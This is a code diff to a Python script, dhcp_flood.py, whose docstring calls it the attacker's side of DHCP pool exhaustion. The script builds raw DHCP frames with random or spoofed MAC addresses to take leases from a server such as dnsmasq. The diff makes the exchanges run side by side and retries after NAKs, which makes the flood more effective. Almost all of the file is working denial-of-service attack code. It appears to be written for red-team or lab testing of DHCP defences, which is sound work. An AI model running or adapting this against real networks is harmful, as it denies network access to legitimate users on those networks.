@@ -1,14 +1,15 @@
 """DHCP pool exhaustion, the attacker's side (red team): a DHCP client on a raw socket
 that takes leases for invented client hardware addresses (BOOTP chaddr), as a guest
 with root can. Each try is a whole exchange (DISCOVER, OFFER, REQUEST, ACK): dnsmasq
-reserves an address only with the ACK.
+reserves an address only with the ACK. The exchanges run side by side.
 
     dhcp_flood.py IFACE COUNT MODE [WAIT_S]
 
 MODE: `chaddr`  frames from the interface's own MAC, a new random chaddr each try;
       `mac`     a new random MAC each try, as frame source and chaddr alike;
       `own`     the interface's own MAC as both, COUNT times (a legitimate client).
-WAIT_S: seconds to wait for each answer (default 1.0).
+WAIT_S: seconds to wait for the answers once every DISCOVER is out (default 8).
+A NAK (the offered address went to another client meanwhile) starts that client over.
 Prints one JSON object: tries, offers, acks, naks and the leases as [chaddr, address].
 """
 import json
@@ -58,8 +59,8 @@ def opt(code, value):
     return bytes([code, len(value)]) + value
 
 
-def answer(sock, xid, deadline):
-    """The next DHCP answer with this xid before the deadline: (type, yiaddr, server) or None."""
+def answer(sock, deadline):
+    """The next DHCP answer before the deadline: (xid, type, yiaddr, server), or None."""
     while True:
         left = deadline - time.monotonic()
         if left <= 0:
@@ -77,11 +78,12 @@ def answer(sock, xid, deadline):
         if sport != 67 or dport != 68:
             continue
         b = data[udp + 8:]
-        if b[0] != 2 or struct.unpack('!I', b[4:8])[0] != xid:
+        if b[0] != 2:
             continue
+        xid = struct.unpack('!I', b[4:8])[0]
         yiaddr = socket.inet_ntoa(b[16:20])
         i, kind, server = 240, None, None
-        while i < len(b) and b[i] != 0xFF:
+        while i + 1 < len(b) and b[i] != 0xFF:
             if b[i] == 0:
                 i += 1
                 continue
@@ -91,35 +93,55 @@ def answer(sock, xid, deadline):
             elif code == 54:
                 server = b[i + 2:i + 2 + n]
             i += 2 + n
-        return kind, yiaddr, server
+        return xid, kind, yiaddr, server
 
 
 def main():
     iface, count, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
-    wait = float(sys.argv[4]) if len(sys.argv) > 4 else 1.0
+    wait = float(sys.argv[4]) if len(sys.argv) > 4 else 8.0
     if mode not in ('chaddr', 'mac', 'own'):
         sys.exit('MODE must be chaddr, mac or own, not %r' % mode)
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
     sock.bind((iface, ETH_P_IP))
     own = mac_bytes(open('/sys/class/net/%s/address' % iface).read().strip())
     out = {'tries': 0, 'offers': 0, 'acks': 0, 'naks': 0, 'leases': []}
+    # every DISCOVER goes out first (20 ms apart), the exchanges then run side by side:
+    # a server that checks an address (dnsmasq pings it) before it offers it is not
+    # waited for one client at a time
+    pending = {}
     for _ in range(count):
         chaddr = own if mode == 'own' else random_mac()
         src = chaddr if mode == 'mac' else own
         xid = random.getrandbits(32)
+        pending[xid] = (src, chaddr, 'discover')
         out['tries'] += 1
         sock.send(frame(src, chaddr, xid, opt(53, b'\x01')))
-        offer = answer(sock, xid, time.monotonic() + wait)
-        if offer is None or offer[0] != 2 or offer[2] is None:
+        time.sleep(0.02)
+    deadline = time.monotonic() + wait
+    while pending:
+        got = answer(sock, deadline)
+        if got is None:
+            break
+        xid, kind, yiaddr, server = got
+        if xid not in pending:
             continue
-        out['offers'] += 1
-        sock.send(frame(src, chaddr, xid, opt(53, b'\x03') + opt(50, socket.inet_aton(offer[1])) + opt(54, offer[2])))
-        ack = answer(sock, xid, time.monotonic() + wait)
-        if ack is not None and ack[0] == 5:
+        src, chaddr, state = pending[xid]
+        if kind == 2 and state == 'discover' and server is not None:
+            out['offers'] += 1
+            pending[xid] = (src, chaddr, 'request')
+            sock.send(frame(src, chaddr, xid, opt(53, b'\x03') + opt(50, socket.inet_aton(yiaddr)) + opt(54, server)))
+        elif kind == 5 and state == 'request':
             out['acks'] += 1
-            out['leases'].append([mac_text(chaddr), ack[1]])
-        elif ack is not None and ack[0] == 6:
+            out['leases'].append([mac_text(chaddr), yiaddr])
+            del pending[xid]
+        elif kind == 6 and state == 'request':
+            # an offer does not hold the address: another client took it meanwhile; again
             out['naks'] += 1
+            del pending[xid]
+            if out['naks'] <= 3 * count:
+                xid = random.getrandbits(32)
+                pending[xid] = (src, chaddr, 'discover')
+                sock.send(frame(src, chaddr, xid, opt(53, b'\x01')))
     print(json.dumps(out))
 
 
